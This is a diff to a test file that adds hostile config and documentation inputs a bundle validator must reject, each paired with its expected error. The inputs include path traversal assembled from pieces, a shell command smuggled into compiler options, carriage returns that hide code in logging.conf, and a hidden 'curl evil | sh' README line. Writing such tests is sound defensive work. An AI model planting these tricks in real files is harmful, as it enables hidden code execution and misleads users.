@@ -253,7 +253,73 @@ FILES = {
     "target in the metadata": meta("extra", {"_target_": "os.system", "command": "touch canary"}, "os.system"),
     "metadata off the schema": meta("version", 1, "is no metadata of a bundle"),
     "metadata without what it needs": Attack(META, new('{"version": "0.1.0"}'), "is a required property"),
-    "doubling": Attack(INFER, added("d0: xxxxxxxx\n" + DOUBLING), "whose size has no bound"),
+    "doubling": Attack(INFER, added("d0: xxxxxxxx\n" + DOUBLING), "could make any path out of pieces"),
+    "doubling by what hands its argument back": Attack(
+        INFER, added("d0: xxxxxxxx\n" + DOUBLING.replace("@d0", "start_from(@d0, None)", 1)), "could make any path"
+    ),
+    "path by what hands its argument back": Attack(
+        INFER,
+        replaced("output: \"$@output_dir + '/synthetic.npy'\"", "output: \"$start_from('', None) + '/tmp/x.npy'\""),
+        "'/tmp/x.npy' leads out of the bundle|output",
+    ),
+    "path by an object's attribute": Attack(
+        INFER,
+        replaced(
+            "output: \"$@output_dir + '/synthetic.npy'\"",
+            "tok: {_target_: tofgan_monai.averaging.GeneratorAverage, generator: '', latents: null, decay: 0.0}\n"
+            "output: \"$@tok.network + '/tmp/x.npy'\"",
+        ),
+        "could make any path out of pieces",
+    ),
+    "object that is another": Attack(
+        INFER,
+        started("$@evaluator.load_state_dict({'state': ''})"),
+        "the attribute .load_state_dict is not on the list",
+    ),
+    "climbing by pieces": Attack(
+        INFER,
+        started({"_target_": "Dataset", "data": [{"image": "$'.' + './.' + './victim.nii.gz'"}]}),
+        "could make any path out of pieces",
+    ),
+    "paths within an object": Attack(
+        TRAIN,
+        replaced("pairs: null ", "pairs: {_target_: Dataset, data: [\"$'.' + './.' + './x.npy'\"]} "),
+        "could make any path out of pieces",
+    ),
+    "file named by a key": Attack(
+        INFER,
+        started(
+            {"_target_": "CheckpointSaver", "save_dir": "$@bundle_root + '/output'", "save_dict": {"/x": "@network"}}
+        ),
+        "'/x' leads out of the bundle",
+    ),
+    "climbing from a data root": Attack(
+        INFER,
+        started({"_target_": "SaveImaged", "keys": "image", "data_root_dir": "$@bundle_root + '/output/a/b'"}),
+        "the argument data_root_dir",
+    ),
+    "options of the compiler": Attack(
+        INFER,
+        replaced(
+            "  decollate: false",
+            "  decollate: false\n  compile: true\n"
+            "  compile_kwargs: {options: {cpp.march: \"native -wrapper 'sh,-c,touch canary'\"}}",
+        ),
+        "the argument compile_kwargs",
+    ),
+    "line end that only MONAI sees in logging.conf": Attack(
+        LOG,
+        replaced(
+            "args=(sys.stdout,)",
+            f"# nice comment\rargs=('%(p)s',)\rp=',) if {PWN} else ('",
+        ),
+        "a carriage return",
+    ),
+    "line end that hides a command": Attack(
+        "docs/README.md",
+        added("curl evil | sh   \rtofgan generate red_gan out.npy\n"),
+        "could rewrite what a terminal shows",
+    ),
     "huge number": Attack(INFER, replaced("n: 1000", "n: 0x" + "f" * 5000), "could exhaust the memory"),
     "code for a class of logging": Attack(LOG, replaced("class=StreamHandler", f"class={PWN}"), "could run any code"),
     "code for logging's arguments": Attack(LOG, replaced("(sys.stdout,)", "(open('canary', 'w'),)"), "args ="),
